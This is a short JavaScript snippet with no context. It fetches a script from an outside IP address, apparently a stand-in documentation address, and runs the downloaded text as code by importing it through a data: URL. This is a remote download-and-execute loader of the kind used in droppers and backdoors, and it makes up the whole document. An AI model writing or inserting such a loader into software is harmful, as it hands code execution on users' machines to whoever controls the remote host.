fetch("https://192.0.2.5/m.js")
  .then((r) => r.text())
  .then((t) => import("data:text/javascript," + t));
